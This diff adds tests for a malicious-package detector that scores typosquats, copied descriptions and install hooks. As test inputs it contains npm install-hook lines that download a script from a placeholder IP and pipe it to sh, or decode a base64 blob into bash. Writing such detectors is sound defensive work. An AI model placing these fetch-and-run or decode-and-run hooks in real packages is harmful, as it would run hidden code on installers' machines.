@@ -65,6 +65,12 @@ def test_description_similarity_and_copy():
     assert copied.value == 1.0 and "copied from `lodash`" in copied.reason
     other = meta("lodahs", summary="A tiny web server for static files")
     assert one("description_copied", "lodahs", "lodash", sm=other, tm=t).value == 0.0
+    # the target's whole summary with words added is still a copy; a short one inside a longer text is not
+    rtg = meta("react-transition-group", summary="A react component toolset for managing animations")
+    fork = meta("react-transition-group-plus", summary="A react component toolset for managing animations, fork of v4")
+    assert one("description_copied", "react-transition-group-plus", "react-transition-group", sm=fork, tm=rtg).value == 1.0
+    longer = meta("lodash-web", summary="A tiny web server for static files, not Lodash modular utilities")
+    assert one("description_copied", "lodash-web", "lodash", sm=longer, tm=t).value == 0.0
 
 
 def _tiny_text_vectors():
@@ -380,6 +386,10 @@ def test_a_setup_py_without_a_hook_says_nothing():
     # setup.py runs its module code at install with or without a cmdclass: no hook found is no evidence
     rec = meta("reqeusts", eco=PYPI, install_scripts=False, install_behaviour=())
     assert one("install_script", "reqeusts", "requests", PYPI, sm=rec).value == 0.0
+    # a hook found weighs less than an npm install script: ordinary sdists pass a cmdclass far more often
+    hooked = meta("reqeusts", eco=PYPI, install_scripts=True, install_behaviour=("cmdclass",))
+    s = one("install_script", "reqeusts", "requests", PYPI, sm=hooked)
+    assert 0 < s.value < 1.0 and s.reason == "its setup.py runs at install (cmdclass)"
 
 
 def test_a_combosquat_silent_about_what_it_extends():
@@ -567,7 +577,11 @@ def test_install_fetch_exec_fires_on_a_brand_new_dropper_only():
     assert s(install_behaviour=dropper, version_count=9, created=datetime(2020, 1, 1, tzinfo=UTC)).value == 0.0
     assert s(install_behaviour=("cmdclass", "runs-commands"), version_count=1).value == 0.0  # runs, downloads nothing
     assert s(install_behaviour=(), version_count=1).value == 0.0
+    assert s(install_behaviour=("decodes-payload",), version_count=1).value == 0.0  # decodes, runs nothing
     assert s(version_count=1).value is None  # the install code was not read
+    hidden = one("install_fetch_exec", "ing-platfrom", "platform", sm=meta(
+        "ing-platfrom", install_behaviour=("runs-commands", "executes-code", "decodes-payload"), version_count=1))
+    assert hidden.value == 1.0 and hidden.reason.startswith("its install script decodes a hidden payload and runs it")
     spec = {f.name: f for f in sig.FEATURES}["install_fetch_exec"]
     assert spec.fixed and spec.prior >= 5  # a documented rule: training never replaces it
 
@@ -578,6 +592,13 @@ def test_npm_install_hook_command_lines_are_read_from_the_packument():
     assert script_behaviour({"postinstall": "curl -s https://203.0.113.9/i.sh | sh"}) == (
         "runs-commands", "downloads", "executes-code")
     assert script_behaviour({"install": "node-gyp rebuild"}) == ("runs-commands",)
+    assert script_behaviour({"preinstall": 'echo "ej0wOyB4PSdpbmctcGxhdGZvcm0nOwpkPSJvb2JzLmZ1biI7" | base64 -d | bash'}) == (
+        "runs-commands", "executes-code", "decodes-payload")
+    assert script_behaviour({"postinstall": "echo aGVsbG8gd29ybGQgdGhpcyBpcyBhIGhpZGRlbiBjb21tYW5k > /tmp/x"}) == (
+        "runs-commands", "decodes-payload")
+    # a long path of plain words is no blob
+    assert script_behaviour({"postinstall": "node node_modules/somepackage/scripts/install/postinstall.js"}) == (
+        "runs-commands",)
     assert script_behaviour({"test": "curl http://x | sh", "build": "tsc"}) == ()
 
 
